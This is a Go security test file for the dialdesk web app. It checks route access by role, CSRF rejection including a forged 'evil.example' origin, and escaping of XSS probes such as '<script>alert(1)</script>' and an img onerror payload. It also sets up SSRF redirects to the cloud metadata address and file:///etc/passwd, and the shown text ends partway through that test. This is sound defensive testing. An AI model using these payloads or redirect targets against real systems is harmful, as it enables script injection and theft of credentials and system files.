package handlers_test

// Cross-cutting security tests. They walk the real route table (chi.Walk)
// and check every route against secRoutes, the access table of the roles
// (below): a route added without a line there fails
// TestSecurityRouteTable, so whoever adds it decides who may use it.
//
// Run them alone with: go test ./handlers/ -run Security -count=1

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/go-chi/chi/v5"
	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"dialdesk/client"
	"dialdesk/handlers"
	"dialdesk/internal/testapp"
	"dialdesk/store"
)

// The two XSS probes of the brief.
const (
	secScript = `<script>alert(1)</script>`
	secImg    = `"><img src=x onerror=alert(1)>`
)

var secPayloads = []string{secScript, secImg}

// secRule is what a route requires.
type secRule struct {
	public bool       // no login needed
	role   store.Role // lowest role allowed; "" is any logged-in user
	noCSRF bool       // exempt from the CSRF token (the platform's push only)
}

var (
	secPublic  = secRule{public: true}
	secAnyone  = secRule{}
	secManager = secRule{role: store.RoleManager}
	secAdmin   = secRule{role: store.RoleAdmin}
)

// secRoutes is the expected access table of the roles: admin everything
// incl. users and settings; manager tasks, numbers,
// lifecycle, calls, do-not-call, audit; supervisor reads tasks and calls and
// may mark calls reviewed). Keys are "METHOD pattern" as chi.Walk gives them.
var secRoutes = map[string]secRule{
	// Public: login, health, static files, the platform's push.
	"GET /healthz":              secPublic,
	"GET /readyz":               secPublic,
	"GET /favicon.ico":          secPublic,
	"GET /login":                secPublic,
	"POST /login":               secPublic,
	"POST /logout":              secPublic,
	"POST /hooks/icall/{token}": {public: true, noCSRF: true},

	// Every logged-in user: reading tasks and calls, reviewing calls.
	"GET /":                                              secAnyone,
	"GET /tasks":                                         secAnyone,
	"GET /tasks/live":                                    secAnyone,
	"GET /calls":                                         secAnyone,
	"GET /account":                                       secAnyone, // everyone changes their own password
	"POST /account":                                      secAnyone,
	"GET /recordings/{task}/{call}":                      secAnyone,
	"HEAD /recordings/{task}/{call}":                     secAnyone,
	"GET /templates/{templateid}/audio/{n}":              secAnyone,
	"GET /tasks/{id}":                                    secAnyone,
	"GET /tasks/{id}/numbers":                            secAnyone, // the task page shows its numbers
	"GET /tasks/{id}/numbers/template.xlsx":              secAnyone,
	"GET /tasks/{id}/numbers/imports/{iid}":              secAnyone,
	"GET /tasks/{id}/calls":                              secAnyone,
	"GET /tasks/{id}/calls/export.xlsx":                  secAnyone,
	"GET /tasks/{id}/calls/export-progress":              secAnyone, // the export's row count, for the page that started it
	"GET /tasks/{id}/calls/{call}":                       secAnyone,
	"POST /tasks/{id}/calls/{call}/review":               secAnyone,
	"GET /tasks/{id}/numbers/imports/{iid}/live":         secAnyone,
	"GET /tasks/{id}/numbers/imports/{iid}/rejects.xlsx": secAnyone,
	"GET /overview":                                      secAnyone, // figures and charts: managers, admins and supervisors
	"GET /overview/export.xlsx":                          secAnyone,
	"GET /overview/leads.xlsx":                           secAnyone, // numbers masked per task for supervisors (phoneFor)
	"GET /search":                                        secAnyone, // transcript search, numbers masked per task
	// Quality review: the queue, claim and hand back, submitting a review
	// (the handlers refuse managers: they dispute, they do not review).
	"GET /qa":                          secAnyone,
	"GET /qa/queue":                    secAnyone,
	"POST /qa/reviews/{rid}/claim":     secAnyone,
	"POST /qa/reviews/{rid}/handback":  secAnyone,
	"GET /qa/reports":                  secAnyone, // numbers in the export masked for supervisors
	"GET /qa/reports/export.xlsx":      secAnyone,
	"POST /qa/reviews/{rid}/dispute":   secAnyone, // the handler: managers and admins
	"POST /qa/reviews/{rid}/rule":      secAnyone, // the handler: another supervisor, or an admin
	"POST /tasks/{id}/calls/{call}/qa": secAnyone,

	// Managers and admins: tasks, lifecycle, numbers, do-not-call, audit.
	"GET /tasks/new":           secManager,
	"POST /tasks":              secManager,
	"GET /audit":               secManager,
	"GET /dnc":                 secManager,
	"GET /qa/plans":            secManager,
	"POST /qa/plans":           secManager,
	"GET /qa/plans/{plan}":     secManager,
	"POST /qa/plans/{plan}":    secManager,
	"POST /dnc":                secManager,
	"POST /dnc/upload":         secManager,
	"POST /dnc/remove":         secManager,
	"GET /dnc/purge":           secManager,
	"POST /dnc/purge":          secManager,
	"GET /rules":               secManager,
	"POST /rules":              secManager,
	"GET /rules/progress":      secManager,
	"GET /rules/{rid}":         secManager,
	"POST /rules/{rid}":        secManager,
	"POST /rules/{rid}/delete": secManager,
	"GET /alerts":              secManager,
	"GET /tasks/bulk":          secManager,
	"POST /tasks/bulk":         secManager,
	"GET /tasks/bulk/{run}":    secManager,
	"GET /tasks/{id}/copy":     secManager,
	"GET /tasks/{id}/redial":   secManager,
	"POST /tasks/{id}/redial":  secManager,
	"GET /tasks/{id}/edit":     secManager,
	"POST /tasks/{id}/edit":    secManager,
	"POST /tasks/{id}/pause":   secManager,
	"POST /tasks/{id}/resume":  secManager,
	"GET /tasks/{id}/end":      secManager,
	"POST /tasks/{id}/end":     secManager,
	"GET /tasks/{id}/delete":   secManager,
	"POST /tasks/{id}/delete":  secManager,
	"GET /tasks/{id}/audit":    secManager,
	"POST /tasks/{id}/numbers": secManager,
	"POST /tasks/{id}/numbers/imports/{iid}/confirm": secManager,
	"POST /tasks/{id}/numbers/imports/{iid}/cancel":  secManager,
	"POST /tasks/{id}/numbers/imports/{iid}/resume":  secManager,
	"POST /tasks/{id}/numbers/imports/{iid}/abandon": secManager,
	"POST /tasks/{id}/numbers/delete":                secManager,
	"POST /tasks/{id}/calls/{call}/dnc":              secManager,

	// Admins only: users.
	"GET /users":                 secAdmin,
	"GET /sync":                  secAdmin,
	"POST /sync":                 secAdmin,
	"GET /settings":              secAdmin,
	"POST /settings":             secAdmin,
	"POST /alerts/webhook":       secAdmin,
	"POST /users":                secAdmin,
	"POST /users/{uid}/role":     secAdmin,
	"POST /users/{uid}/password": secAdmin,
	"POST /users/{uid}/disable":  secAdmin,
	"POST /users/{uid}/enable":   secAdmin,
	// Scorecards.
	"GET /qa/scorecards":       secAdmin,
	"POST /qa/scorecards":      secAdmin,
	"GET /qa/scorecards/{sc}":  secAdmin,
	"POST /qa/scorecards/{sc}": secAdmin,
}

// secWrites are the platform endpoints that change something; no refused
// request may reach them.
var secWrites = []string{"add_task", "editor_task", "pause_task", "resume_task", "end_task", "delete_task",
	"add_task_data", "add_task_file_data", "delete_task_data"}

// secSafe reports whether method is one CSRF protection lets through.
func secSafe(method string) bool {
	switch method {
	case http.MethodGet, http.MethodHead, http.MethodOptions, http.MethodTrace:
		return true
	}
	return false
}

func secLevel(r store.Role) int {
	switch r {
	case store.RoleAdmin:
		return 3
	case store.RoleManager:
		return 2
	}
	return 1
}

type secRoute struct{ method, pattern string }

func (r secRoute) key() string { return r.method + " " + r.pattern }

// secFixture is a seeded app with the ids the routes' parameters need.
type secFixture struct {
	app  *testapp.App
	task string // a task with call records
	call string // one of its calls (v1 record id)
	tmpl string // a script template with first-node audio
	uid  string // the supervisor's user id
}

func newSecFixture(t *testing.T, opts testapp.Options) *secFixture {
	t.Helper()
	app := testapp.New(t, opts)
	app.RememberSandboxTasks(t)
	ctx := context.Background()
	f := &secFixture{app: app}
	for _, id := range app.Sandbox.TaskIDs() {
		p, err := app.Client.QueryDoneTaskPhones(ctx, client.RecordQuery{TaskID: id})
		if err == nil && len(p.Records) > 0 {
			f.task, f.call = id, string(p.Records[0].ID)
			break
		}
	}
	if f.task == "" {
		t.Fatal("no seeded task with call records")
	}
	tpls, err := app.Client.QueryTemplates(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, tp := range tpls {
		if len(tp.Records()) > 0 {
			f.tmpl = tp.ID
			break
		}
	}
	if f.tmpl == "" {
		t.Fatal("no seeded template with audio")
	}
	users, err := app.Store.Users(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range users {
		if u.Role == store.RoleSupervisor {
			f.uid = strconv.FormatInt(u.ID, 10)
		}
	}
	return f
}

// routes walks the real router.
func (f *secFixture) routes(t *testing.T) []secRoute {
	t.Helper()
	mux, ok := f.app.Server.Routes().(chi.Routes)
	if !ok {
		t.Fatal("Routes() is not a chi router")
	}
	seen := map[string]bool{}
	var out []secRoute
	err := chi.Walk(mux, func(method, route string, _ http.Handler, _ ...func(http.Handler) http.Handler) error {
		route = strings.ReplaceAll(route, "/*/", "/")
		if route != "/" {
			route = strings.TrimSuffix(route, "/")
		}
		r := secRoute{method, route}
		if !seen[r.key()] {
			seen[r.key()] = true
			out = append(out, r)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].key() < out[j].key() })
	return out
}

// rule is the route's line in secRoutes; /static/* is public for any method.
func (f *secFixture) rule(r secRoute) (secRule, bool) {
	if r.pattern == "/static/*" {
		return secPublic, true
	}
	rule, ok := secRoutes[r.key()]
	return rule, ok
}

// fill puts plausible values in a pattern's parameters.
func (f *secFixture) fill(pattern string) string {
	return strings.NewReplacer("{id}", f.task, "{task}", f.task, "{call}", f.call, "{iid}", "1", "{uid}", f.uid,
		"{templateid}", f.tmpl, "{n}", "1", "{token}", "test-push-token", "{run}", strings.Repeat("0", 32), "*", "app.js").Replace(pattern)
}

// post sends form (with token when not empty) as a browser of this site would.
func (f *secFixture) post(t *testing.T, c *http.Client, path string, form url.Values, h http.Header) (*http.Response, string) {
	t.Helper()
	hdr := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Origin": {f.app.URL}}
	for k, v := range h {
		hdr[k] = v
	}
	return f.app.Do(t, c, http.MethodPost, path, strings.NewReader(form.Encode()), hdr)
}

// secLeaks are strings that betray internals when a page shows them.
var secLeaks = []string{"goroutine ", "runtime error", "runtime/debug", ".go:", "sql: ", "SQL logic", "dial tcp",
	"connection refused", "context deadline exceeded", "signature=", "appid=", "demo-signature", "demo-token", "test-push-token"}

// secCheck checks what every response must be: security headers, and for
// HTML no inline script, no event-handler attributes and no Go internals.
func secCheck(t *testing.T, what string, res *http.Response, body string) {
	t.Helper()
	h := res.Header
	if h.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("%s: X-Content-Type-Options %q, want nosniff", what, h.Get("X-Content-Type-Options"))
	}
	if !strings.HasPrefix(h.Get("Content-Type"), "text/html") {
		return
	}
	csp := h.Get("Content-Security-Policy")
	for _, want := range []string{"default-src", "script-src 'self'", "frame-ancestors 'none'", "object-src 'none'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("%s: CSP %q lacks %q", what, csp, want)
		}
	}
	for _, bad := range []string{"'unsafe-inline'", "'unsafe-eval'", "data: 'self'", "*"} {
		if strings.Contains(csp, bad) {
			t.Errorf("%s: CSP %q allows %s", what, csp, bad)
		}
	}
	switch rp := h.Get("Referrer-Policy"); rp {
	case "no-referrer", "same-origin", "strict-origin", "strict-origin-when-cross-origin":
	default:
		t.Errorf("%s: Referrer-Policy %q", what, rp)
	}
	for _, leak := range secLeaks {
		if strings.Contains(body, leak) {
			t.Errorf("%s: the page shows %q", what, leak)
		}
	}
	secCheckDOM(t, what, body)
}

// secCheckDOM fails on script the CSP would have to stop: inline <script>,
// on* attributes, javascript: URLs, and the probes' markup.
func secCheckDOM(t *testing.T, what, body string) {
	t.Helper()
	for _, p := range secPayloads {
		if strings.Contains(body, p) || strings.Contains(body, "<img src=x") {
			t.Errorf("%s: probe %q echoed unescaped", what, p)
		}
	}
	d, err := goquery.NewDocumentFromReader(strings.NewReader(body))
	if err != nil {
		t.Errorf("%s: %v", what, err)
		return
	}
	d.Find("script").Each(func(_ int, s *goquery.Selection) {
		if _, ok := s.Attr("src"); !ok {
			t.Errorf("%s: inline <script>: %q", what, s.Text())
		}
	})
	d.Find("*").Each(func(_ int, s *goquery.Selection) {
		for _, a := range s.Nodes[0].Attr {
			k := strings.ToLower(a.Key)
			if strings.HasPrefix(k, "on") {
				t.Errorf("%s: <%s %s=%q>", what, s.Nodes[0].Data, a.Key, a.Val)
			}
			if (k == "href" || k == "src" || k == "action" || k == "formaction" || strings.HasPrefix(k, "hx-")) &&
				strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") {
				t.Errorf("%s: <%s %s=%q>", what, s.Nodes[0].Data, a.Key, a.Val)
			}
		}
	})
}

// secEchoed reports whether the page shows p as text or in an attribute
// (so an escaping test is not passing only because the input was dropped).
func secEchoed(body, p string) bool {
	n, err := html.Parse(strings.NewReader(body))
	if err != nil {
		return false
	}
	found := false
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if found {
			return
		}
		if n.Type == html.TextNode && strings.Contains(n.Data, p) {
			found = true
		}
		for _, a := range n.Attr {
			if strings.Contains(a.Val, p) {
				found = true
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(n)
	return found
}

func secWriteCounts(app *testapp.App) map[string]int64 {
	m := map[string]int64{}
	for _, ep := range secWrites {
		if n := app.Sandbox.Count(ep); n != 0 {
			m[ep] = n
		}
	}
	return m
}

// TestSecurityRouteTable: every route of the real router has a line in
// secRoutes (so its access was decided), and the table names no route that
// is gone.
func TestSecurityRouteTable(t *testing.T) {
	f := newSecFixture(t, testapp.Options{NoSeedData: false})
	routes := f.routes(t)
	have := map[string]bool{}
	for _, r := range routes {
		have[r.key()] = true
		if _, ok := f.rule(r); !ok {
			t.Errorf("route %s is not in secRoutes (security_test.go): add it with the role it needs", r.key())
		}
	}
	for k := range secRoutes {
		if !have[k] {
			t.Errorf("secRoutes names %s, which the router does not serve", k)
		}
	}
	if len(routes) < len(secRoutes) {
		t.Errorf("walked %d routes, table has %d", len(routes), len(secRoutes))
	}
}

// TestSecurityAnonymous: every route but the public ones sends an anonymous
// visitor to /login (htmx: 401 with HX-Redirect), and an anonymous POST with
// a valid CSRF token is refused the same way; the public ones answer.
func TestSecurityAnonymous(t *testing.T) {
	f := newSecFixture(t, testapp.Options{})
	app := f.app
	anon := app.NewClient()
	tok := app.CSRFToken(t, anon, "/login")
	for _, r := range f.routes(t) {
		rule, ok := f.rule(r)
		if !ok {
			continue // TestSecurityRouteTable reports it
		}
		path := f.fill(r.pattern)
		what := "anonymous " + r.method + " " + path
		if rule.public {
			if !secSafe(r.method) {
				continue
			}
			res, body := app.Do(t, anon, r.method, path, nil, nil)
			secCheck(t, what, res, body)
			if res.StatusCode >= 400 {
				t.Errorf("%s: %d, want it served without login", what, res.StatusCode)
			}
			continue
		}
		var res *http.Response
		var body string
		if secSafe(r.method) {
			res, body = app.Do(t, anon, r.method, path, nil, nil)
			secCheck(t, what, res, body)
			hres, hbody := app.Do(t, anon, r.method, path, nil, http.Header{"HX-Request": {"true"}})
			secCheck(t, what+" (htmx)", hres, hbody)
			if hres.StatusCode != http.StatusUnauthorized || !strings.HasPrefix(hres.Header.Get("HX-Redirect"), "/login") {
				t.Errorf("%s (htmx): %d HX-Redirect %q, want 401 to /login", what, hres.StatusCode, hres.Header.Get("HX-Redirect"))
			}
		} else {
			res, body = f.post(t, anon, path, url.Values{"csrf_token": {tok}}, nil)
			secCheck(t, what, res, body)
		}
		switch {
		case res.StatusCode == http.StatusSeeOther && strings.HasPrefix(res.Header.Get("Location"), "/login"):
		case res.StatusCode == http.StatusUnauthorized || res.StatusCode == http.StatusForbidden:
		default:
			t.Errorf("%s: %d Location %q, want 303 to /login (or 401/403)", what, res.StatusCode, res.Header.Get("Location"))
		}
	}
	if w := secWriteCounts(app); len(w) > 0 {
		t.Errorf("anonymous requests reached the platform's writes: %v", w)
	}
}

// TestSecurityCSRF: every state-changing route but the push hook refuses a
// request without a valid CSRF token (403), from a logged-in admin, whether
// the token is missing, wrong, sent in htmx's header, or the request comes
// from another origin with a good token. Nothing reaches the platform.
func TestSecurityCSRF(t *testing.T) {
	f := newSecFixture(t, testapp.Options{})
	app := f.app
	admin := app.Login(t, store.RoleAdmin)
	good := app.CSRFToken(t, admin, "/tasks")
	cases := []struct {
		name string
		form url.Values
		h    http.Header
	}{
		{"no token", url.Values{}, nil},
		{"empty token", url.Values{"csrf_token": {""}}, nil},
		{"wrong token", url.Values{"csrf_token": {"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}}, nil},
		{"wrong htmx header", url.Values{}, http.Header{"Hx-Request": {"true"}, "X-CSRF-Token": {"bm90LWEtdG9rZW4="}}},
		{"good token, other origin", url.Values{"csrf_token": {good}}, http.Header{"Origin": {"https://evil.example"}}},
		{"good token, cross-site fetch", url.Values{"csrf_token": {good}}, http.Header{"Origin": {"https://evil.example"}, "Sec-Fetch-Site": {"cross-site"}}},
	}
	for _, r := range f.routes(t) {
		rule, ok := f.rule(r)
		if !ok || secSafe(r.method) || r.pattern == "/static/*" {
			continue
		}
		path := f.fill(r.pattern)
		if rule.noCSRF {
			// The push hook is exempt: a wrong token is its own 404, not the CSRF 403.
			res, body := app.Do(t, app.NewClient(), http.MethodPost, strings.Replace(path, "test-push-token", "wrong-token", 1),
				strings.NewReader("{}"), http.Header{"Content-Type": {"application/json"}})
			secCheck(t, "push with a wrong token", res, body)
			if res.StatusCode != http.StatusNotFound {
				t.Errorf("push with a wrong token: %d, want 404", res.StatusCode)
			}
			continue
		}
		for _, c := range cases {
			what := r.method + " " + path + " (" + c.name + ")"
			res, body := f.post(t, admin, path, c.form, c.h)
			if c.h.Get("HX-Request") != "" {
				// htmx gets the funnel's alert, with 200 so that htmx swaps it.
				secCheckDOM(t, what, body)
				if res.StatusCode != http.StatusForbidden && (res.StatusCode != http.StatusOK ||
					res.Header.Get("HX-Retarget") != "#alerts" || doc(t, body).Find("[data-testid=error-alert]").Length() != 1) {
					t.Errorf("%s: %d retarget %q, want the error alert", what, res.StatusCode, res.Header.Get("HX-Retarget"))
				}
				continue
			}
			secCheck(t, what, res, body)
			if res.StatusCode != http.StatusForbidden {
				t.Errorf("%s: %d, want 403", what, res.StatusCode)
			}
		}
	}
	if w := secWriteCounts(app); len(w) > 0 {
		t.Errorf("requests without a valid CSRF token reached the platform's writes: %v", w)
	}
	// The admin is still logged in (POST /logout was refused too) and the
	// users are unchanged.
	if res, _ := app.Get(t, admin, "/users"); res.StatusCode != http.StatusOK {
		t.Errorf("admin after the refused requests: /users %d", res.StatusCode)
	}
	if users, _ := app.Store.Users(context.Background()); len(users) != len(store.Roles) {
		t.Errorf("users after refused requests: %d", len(users))
	}
	// Positive controls: htmx's header token and the form token pass.
	res, _ := f.post(t, admin, "/tasks/"+f.task+"/calls/"+f.call+"/review", url.Values{},
		http.Header{"HX-Request": {"true"}, "X-CSRF-Token": {good}})
	if res.StatusCode == http.StatusForbidden || res.StatusCode >= 500 || res.Header.Get("HX-Retarget") != "" {
		t.Errorf("review with the htmx header token: %d retarget %q", res.StatusCode, res.Header.Get("HX-Retarget"))
	}
	// The push hook needs no token and no session.
	res = postPush(t, app, "/hooks/icall/test-push-token?task="+f.task, seedPush(t))
	if res.StatusCode != http.StatusOK {
		t.Errorf("push without CSRF token: %d, want 200", res.StatusCode)
	}
}

// TestSecurityRoles: each role-gated route answers 403 (the error page) to
// the roles below it, for GET and for POST with a valid CSRF token, and
// nothing reaches the platform; GET routes answer the roles allowed.
func TestSecurityRoles(t *testing.T) {
	f := newSecFixture(t, testapp.Options{})
	app := f.app
	type roleClient struct {
		c   *http.Client
		tok string
	}
	clients := map[store.Role]roleClient{}
	for _, role := range store.Roles {
		c := app.Login(t, role)
		clients[role] = roleClient{c, app.CSRFToken(t, c, "/tasks")}
	}
	for _, r := range f.routes(t) {
		rule, ok := f.rule(r)
		if !ok || rule.public || r.pattern == "/static/*" {
			continue
		}
		path := f.fill(r.pattern)
		for _, role := range store.Roles {
			rc := clients[role]
			what := string(role) + " " + r.method + " " + path
			allowed := secLevel(role) >= secLevel(rule.role)
			if allowed && !secSafe(r.method) {
				continue // not sent: an allowed POST would change the seeded world
			}
			var res *http.Response
			var body string
			if secSafe(r.method) {
				res, body = app.Do(t, rc.c, r.method, path, nil, nil)
			} else {
				res, body = f.post(t, rc.c, path, url.Values{"csrf_token": {rc.tok}}, nil)
			}
			secCheck(t, what, res, body)
			switch {
			case allowed && (res.StatusCode == http.StatusForbidden || res.StatusCode >= 500):
				t.Errorf("%s: %d, want it allowed", what, res.StatusCode)
			case !allowed && res.StatusCode != http.StatusForbidden:
				t.Errorf("%s: %d, want 403", what, res.StatusCode)
			case !allowed && doc(t, body).Find("[data-testid=error-page]").Length() != 1:
				t.Errorf("%s: 403 without the error page", what)
			}
		}
	}
	if w := secWriteCounts(app); len(w) > 0 {
		t.Errorf("refused requests reached the platform's writes: %v", w)
	}
	ctx := context.Background()
	if users, _ := app.Store.Users(ctx); len(users) != len(store.Roles) {
		t.Errorf("users after refused requests: %d, want %d", len(users), len(store.Roles))
	}
	for _, u := range mustUsers(t, app) {
		if string(u.Role) != u.Username || u.Disabled {
			t.Errorf("user %s changed by a refused request: role %s disabled %v", u.Username, u.Role, u.Disabled)
		}
	}
}

func mustUsers(t *testing.T, app *testapp.App) []store.User {
	t.Helper()
	users, err := app.Store.Users(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return users
}

// secPushCall posts a surface A push for task with the given detail fields
// (JSON values) and transcript lines.
func secPushCall(t *testing.T, app *testapp.App, task string, detail map[string]any, msgs ...string) {
	t.Helper()
	d := map[string]any{"answer_time": 1576551749868, "start_time": 1576551740000, "end_time": 1576551790000,
		"status": 2, "call_duration": 40000, "fee_duration": 40000, "tel": "13800138000", "caller": "02180344315"}
	for k, v := range detail {
		d[k] = v
	}
	var lines []map[string]any
	for i, m := range msgs {
		lines = append(lines, map[string]any{"callid": d["callid"], "msg": m, "date_time": 1576551750959 + int64(i)*1000, "sender_type": i % 2})
	}
	b, err := json.Marshal(map[string]any{"result": map[string]any{"data": map[string]any{"msg": lines, "detail": d}}, "ret_code": "000000"})
	if err != nil {
		t.Fatal(err)
	}
	if res := postPush(t, app, "/hooks/icall/test-push-token?task="+url.QueryEscape(task), string(b)); res.StatusCode != http.StatusOK {
		t.Fatalf("push %v: %d", detail["callid"], res.StatusCode)
	}
}

// TestSecurityEscaping: inputs echoed on pages (task names from the
// platform, the search box, filters, user names, import file names, audit
// and do-not-call entries, pushed call data, form fields sent back) come back
// as text. Each page must show the probe (escaped) where one is expected, so
// the test cannot pass because the input was dropped.
func TestSecurityEscaping(t *testing.T) {
	f := newSecFixture(t, testapp.Options{})
	app := f.app
	ctx := context.Background()
	q := url.QueryEscape

	// Platform data: two tasks named with the probes.
	named := map[string]string{}
	for _, id := range app.Sandbox.TaskIDs() {
		p := secImg
		if _, ok := named[f.task]; ok || id != f.task {
			if id == f.task {
				continue
			}
			p = secScript
		}
		if err := app.Client.EditTask(ctx, client.EditTaskRequest{TaskID: id, TaskName: &p}); err == nil {
			named[id] = p
		}
		if len(named) == 2 {
			break
		}
	}
	if named[f.task] != secImg || len(named) != 2 {
		t.Fatalf("could not name the tasks with the probes: %v", named)
	}
	var other string
	for id := range named {
		if id != f.task {
			other = id
		}
	}
	app.Server.DropTaskCache()

	// Dialdesk's own data written from user input.
	if _, err := app.Store.CreateUser(ctx, secScript, "probe-password", store.RoleSupervisor); err != nil {
		t.Fatal(err)
	}
	if err := app.Store.AddAudit(ctx, store.AuditEntry{Username: secImg, TaskID: f.task, Action: secScript, Detail: secImg, Answer: secScript}); err != nil {
		t.Fatal(err)
	}
	if _, err := app.Store.AddDoNotCall(ctx, []string{"13900139000"}, secScript, secImg); err != nil {
		t.Fatal(err)
	}
	if _, err := app.Store.CreateImport(ctx, f.task, secImg, secScript); err != nil {
		t.Fatal(err)
	}
	// A pushed call whose every text is a probe.
	secPushCall(t, app, f.task, map[string]any{"callid": "xss1", "outid": secScript, "tel": secScript, "caller": secImg,
		"intention_name": []string{secScript, secImg}, "voice_url": secImg}, secScript, secImg)

	type page struct {
		role store.Role // "" anonymous
		path string
		want []string // probes the page must show (escaped)
		htmx bool
	}
	pages := []page{
		{store.RoleSupervisor, "/tasks", secPayloads, false},
		{store.RoleSupervisor, "/tasks?q=" + q(secScript) + "&status=" + q(secImg) + "&sort=" + q(secImg) + "&dir=" + q(secScript), []string{secScript}, false},
		{store.RoleSupervisor, "/tasks?q=" + q(secImg), []string{secImg}, false},
		{store.RoleSupervisor, "/tasks/live?ids=" + q(f.task+","+other+","+secScript), nil, true},
		{store.RoleSupervisor, "/tasks/" + f.task, []string{secImg}, false},
		{store.RoleSupervisor, "/tasks/" + other, []string{secScript}, false},
		{store.RoleSupervisor, "/tasks/" + f.task + "/calls?q=" + q(secScript) + "&intent=" + q(secImg) + "&from=" + q(secImg) +
			"&to=" + q(secScript) + "&bill_min=" + q(secImg) + "&rounds_max=" + q(secScript) + "&level=" + q(secImg) + "&tag=" + q(secScript) + "&page=" + q(secImg),
			secPayloads, false},
		{store.RoleSupervisor, "/tasks/" + f.task + "/calls?q=" + q(secImg), []string{secImg}, true},
		{store.RoleSupervisor, "/tasks/" + f.task + "/calls/xss1", secPayloads, false},
		{store.RoleSupervisor, "/calls", []string{secScript}, false},
		{store.RoleSupervisor, "/tasks/" + f.task + "/numbers?q=" + q(secScript) + "&status=" + q(secImg) + "&op=" + q(secScript), []string{secImg}, false},
		{store.RoleManager, "/tasks/" + f.task + "/edit", []string{secImg}, false},
		{store.RoleManager, "/tasks/" + f.task + "/end", []string{secImg}, false},
		{store.RoleManager, "/tasks/" + f.task + "/audit", []string{secImg}, false},
		{store.RoleManager, "/audit", secPayloads, false},
		{store.RoleManager, "/audit?user=" + q(secImg) + "&task=" + q(secScript) + "&before=" + q(secImg), []string{secImg}, false},
		{store.RoleManager, "/dnc", []string{secScript}, false},
		{store.RoleManager, "/dnc?q=" + q(secImg) + "&page=" + q(secScript), nil, false},
		{store.RoleAdmin, "/users", []string{secScript}, false},
		{"", "/login?next=" + q("/tasks?q="+secImg), nil, false},
		{store.RoleSupervisor, "/tasks?lang=" + q(secScript), nil, false},
		{store.RoleSupervisor, "/nope/" + q(secScript), nil, false},
	}
	clients := map[store.Role]*http.Client{"": app.NewClient()}
	for _, role := range store.Roles {
		clients[role] = app.Login(t, role)
	}
	for _, p := range pages {
		var h http.Header
		if p.htmx {
			h = http.Header{"HX-Request": {"true"}}
		}
		res, body := app.Do(t, clients[p.role], http.MethodGet, p.path, nil, h)
		what := string(p.role) + " GET " + p.path
		if p.htmx {
			what += " (htmx)"
			secCheckDOM(t, what, body)
		} else {
			secCheck(t, what, res, body)
		}
		if res.StatusCode >= 500 {
			t.Errorf("%s: %d", what, res.StatusCode)
		}
		for _, w := range p.want {
			if !secEchoed(body, w) {
				t.Errorf("%s: %q not shown (escaped) where expected", what, w)
			}
		}
	}

	// Form fields sent back with the form.
	posts := []struct {
		role store.Role
		path string
		form url.Values
		want []string
	}{
		{"", "/login", url.Values{"username": {secScript}, "password": {"x"}, "next": {"/tasks?q=" + secImg}}, []string{secScript}},
		{store.RoleAdmin, "/users", url.Values{"username": {secImg}, "password": {"x"}, "role": {secScript}}, []string{secImg}},
		{store.RoleManager, "/tasks/" + f.task + "/numbers/delete", url.Values{"outid": {secScript, secImg}}, secPayloads},
		{store.RoleManager, "/dnc", url.Values{"phone": {secImg}, "note": {secScript}}, nil},
		{store.RoleManager, "/tasks", url.Values{"task_name": {secImg}, "call_time_slot": {secScript}, "start_time": {secImg}}, []string{secImg}},
		{store.RoleManager, "/tasks/" + f.task + "/edit", url.Values{"task_name": {secScript}, "call_time_slot": {secImg}, "start_time": {secScript}, "time_type": {"1"}}, nil},
	}
	for _, p := range posts {
		form := p.form
		form.Set("csrf_token", app.CSRFToken(t, clients[p.role], map[bool]string{true: "/login", false: "/tasks"}[p.role == ""]))
		res, body := f.post(t, clients[p.role], p.path, form, nil)
		what := string(p.role) + " POST " + p.path
		secCheck(t, what, res, body)
		if res.StatusCode >= 500 {
			t.Errorf("%s: %d", what, res.StatusCode)
		}
		for _, w := range p.want {
			if !secEchoed(body, w) {
				t.Errorf("%s: %q not shown (escaped) where expected (status %d)", what, w, res.StatusCode)
			}
		}
	}

	// The user named with a probe sees its name in the header.
	c := app.NewClient()
	if res := app.LoginAs(t, c, secScript, "probe-password"); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login as the probe user: %d", res.StatusCode)
	}
	res, body := app.Get(t, c, "/tasks")
	secCheck(t, "probe user /tasks", res, body)
	if got := doc(t, body).Find("[data-testid=whoami]").Text(); !strings.Contains(got, secScript) {
		t.Errorf("whoami = %q, want the name as text", got)
	}
}

// TestSecurityRecordingProxy: the recording proxy and the template audio
// route fetch only from the configured hosts: malformed ids, platform URLs
// on other hosts or schemes, and redirects off the allowed hosts are 404
// and fetch nothing.
func TestSecurityRecordingProxy(t *testing.T) {
	var hits atomic.Int64 // requests reaching a host that is not allowed
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		w.Header().Set("Content-Type", "audio/wav")
		io.WriteString(w, "RIFF internal secret")
	}))
	defer target.Close()
	redir := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		to := target.URL + "/a.wav"
		switch r.URL.Path {
		case "/meta":
			to = "http://169.254.169.254/latest/meta-data/"
		case "/file":
			to = "file:///etc/passwd"
		case "/rel":
			to = "//" + strings.TrimPrefix(target.URL, "http://") + "/a.wav"
		}
		http.Redirect(w, r, to, http.StatusFound)
	}))
	defer redir.Close()
	redirHost := strings.TrimPrefix(redir.URL, "http://")
	f := newSecFixture(t, testapp.Options{Configure: func(c *handlers.Config) { c.RecordingHosts = append(c.RecordingHosts, redirHost) }})
	app := f.app
